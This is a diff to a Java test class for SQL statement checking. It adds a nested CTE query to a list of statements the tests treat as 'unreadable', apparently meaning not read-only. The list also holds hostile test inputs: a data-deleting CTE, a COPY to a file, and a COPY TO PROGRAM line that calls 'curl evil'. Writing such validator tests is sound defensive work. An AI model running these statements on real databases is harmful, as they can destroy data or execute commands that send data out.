@@ -123,6 +123,7 @@ class SqlStatementsTest {
     static List<String> unreadable() {
         return List.of(
                 "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
+                "WITH c AS (SELECT * FROM orders) SELECT s.item FROM (SELECT * FROM c) s",
                 "VACUUM orders",
                 "COPY orders TO '/tmp/orders.csv'",
                 "COPY orders TO PROGRAM 'curl evil'",
